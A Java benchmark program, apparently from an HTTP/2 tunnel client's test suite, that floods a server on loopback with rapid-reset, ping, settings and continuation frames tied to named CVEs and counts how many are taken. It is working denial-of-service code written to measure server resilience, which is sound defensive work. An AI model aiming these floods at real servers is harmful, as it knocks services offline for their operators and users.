package org.owuitunnel.client.benchmark;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;

/**
 * Visitors who flood a server with what HTTP/2 lets them send for nothing, on loopback only: each opens a connection, sends
 * frames as fast as they are taken until it is thrown out or has sent its share, and comes again. A program of its own, which
 * ends with its standard input and says then how many frames were taken.
 */
final class Attack {
    /** Frames of one connection: far more than a browser sends. */
    private static final int FRAMES = 10_000;

    /** In one write. */
    private static final int BATCH = 50;

    /** Before the next connection: who attacks is to cost the server, not the one machine on which both are measured. */
    private static final long REST_NANOS = 100_000_000;

    /** Not where others come from, as it would be: a server may hold floods against an address. */
    private static final InetAddress FROM = InetAddress.ofLiteral("127.0.0.2");

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM_AND_HEADERS = 5;

    /** What is sent without end. */
    enum Kind {
        /** Requests that are taken back at once (CVE-2023-44487). */
        RESETS,
        /** Each wants an answer (CVE-2019-9512). */
        PINGS,
        /** Each wants an acknowledgement (CVE-2019-9515). */
        SETTINGS,
        /** A head that never ends (CVE-2024-27983 and others). */
        CONTINUATIONS
    }

    private final Target target;
    private final List<Thread> attackers = new ArrayList<>();
    private final LongAdder sent = new LongAdder();
    private volatile boolean over;

    private Attack(Target target) {
        this.target = target;
    }

    /** Arguments: the public name, its port, the trust store. */
    public static void main(String[] arguments) throws IOException, InterruptedException {
        Attack attack = new Attack(
                new Target("attacked", arguments[0], Integer.parseInt(arguments[1]), true, Path.of(arguments[2])));
        for (Kind kind : Kind.values()) {
            attack.attackers.add(Thread.ofPlatform().name("attack-" + kind).start(() -> attack.repeat(kind)));
        }
        int end = System.in.read();
        assert end < 0;
        attack.over = true;
        for (Thread attacker : attack.attackers) {
            attacker.join();
        }
        System.out.println(attack.sent.sum());
    }

    private void repeat(Kind kind) {
        while (!over) {
            try (Socket socket = target.connectFrom(FROM, "h2")) {
                flood(kind, socket.getOutputStream());
            } catch (IOException expected) {
                // Thrown out, which is what ought to happen.
            }
            LockSupport.parkNanos(REST_NANOS);
        }
    }

    private void flood(Kind kind, OutputStream out) throws IOException {
        out.write(PREFACE);
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
        byte[] head = head();
        if (kind == Kind.CONTINUATIONS) {
            out.write(frame(HEADERS, 0, 1, head));
        }
        for (int number = 0; number < FRAMES && !over; number += BATCH) {
            ByteBuffer batch = ByteBuffer.allocate(BATCH * 2 * (head.length + 16));
            for (int i = 0; i < BATCH; i++) {
                one(kind, number + i, head, batch);
            }
            out.write(batch.array(), 0, batch.position());
            sent.add(BATCH);
        }
    }

    private static void one(Kind kind, int number, byte[] head, ByteBuffer to) {
        int stream = 2 * number + 1;
        switch (kind) {
            case RESETS -> {
                to.put(frame(HEADERS, END_STREAM_AND_HEADERS, stream, head));
                to.put(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
            }
            case PINGS ->
                to.put(frame(
                        PING, 0, 0, ByteBuffer.allocate(8).putLong(random()).array()));
            case SETTINGS -> to.put(frame(SETTINGS, 0, 0, new byte[0]));
            case CONTINUATIONS -> to.put(frame(CONTINUATION, 0, 1, new byte[0]));
        }
    }

    private static long random() {
        return ThreadLocalRandom.current().nextLong();
    }

    /** GET of the small body: three fields of HPACK's static table, and two literals that are not indexed (RFC 7541, 6.2.2). */
    private byte[] head() {
        byte[] path = Bodies.SMALL.getBytes(StandardCharsets.US_ASCII);
        byte[] authority = target.authority().getBytes(StandardCharsets.US_ASCII);
        ByteBuffer head = ByteBuffer.allocate(8 + path.length + authority.length);
        head.put((byte) 0x82).put((byte) 0x87);
        head.put((byte) 0x04).put((byte) path.length).put(path);
        head.put((byte) 0x01).put((byte) authority.length).put(authority);
        return Arrays.copyOf(head.array(), head.position());
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
